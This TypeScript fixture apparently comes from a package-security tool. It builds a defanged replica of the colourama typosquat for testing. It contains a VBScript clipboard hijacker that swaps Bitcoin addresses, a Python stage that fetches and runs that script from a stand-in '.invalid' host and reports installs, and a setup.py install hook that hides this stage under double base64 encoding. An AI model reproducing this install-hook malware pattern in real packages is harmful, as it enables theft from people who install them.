/**
 * An inert replica of the attack that this product starts from: `colourama` beside `colorama`. It has the shape of the original and none of its text: hosts are
 * under `.invalid`, which never resolves (RFC 2606), and the wallet is made up.
 */
import { forgeSdist } from './forge.ts';

const SWAP = `Do
  clip = CreateObject("htmlfile").ParentWindow.ClipboardData.GetData("text")
  Set pattern = New RegExp
  pattern.Pattern = "^(1|3)[a-km-zA-HJ-NP-Z1-9]{25,34}$"
  If pattern.Test(clip) Then CreateObject("WScript.Shell").Run "cmd /c echo 1ExampleExampleExampleExampleXX| clip", 0
  WScript.Sleep 500
Loop
`;

const STAGE_TWO = `
import os, platform, subprocess
try:
    from urllib2 import urlopen
except ImportError:
    from urllib.request import urlopen

if platform.system() == 'Windows':
    folder = os.path.join(os.environ['APPDATA'], 'Updater')
    if not os.path.exists(folder):
        os.makedirs(folder)
    path = os.path.join(folder, 'swap.vbs')
    with open(path, 'wb') as script:
        script.write(urlopen('http://stage.colourama.invalid/swap.vbs').read())
    subprocess.Popen(['wscript.exe', path])
urlopen('http://count.colourama.invalid/installed?system=' + platform.system())
`;

/** The archive, as bytes. With `hasScript` the script that swaps addresses is inside instead of being fetched. */
export function forgeColourama(hasScript = false): Uint8Array {
  const once = Buffer.from(STAGE_TWO).toString('base64');
  const twice = Buffer.from(`import base64\nexec(base64.b64decode('${once}'))\n`).toString('base64');
  const files = {
    'setup.py': `import base64
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        try:
            exec(base64.b64decode('${twice}'))
        except Exception:
            pass


setup(
    name='colourama',
    version='0.1.6',
    description='Cross-platform colored terminal text.',
    packages=['colourama'],
    cmdclass={'install': Install},
)
`,
    'colourama/__init__.py': "from .ansi import Fore\n__all__ = ['Fore']\n",
    'colourama/ansi.py': "CSI = '\\033['\n\n\nclass Fore:\n    RED = CSI + '31m'\n    RESET = CSI + '39m'\n",
  };
  return forgeSdist('colourama', '0.1.6', hasScript ? { ...files, 'colourama/swap.vbs': SWAP } : files);
}
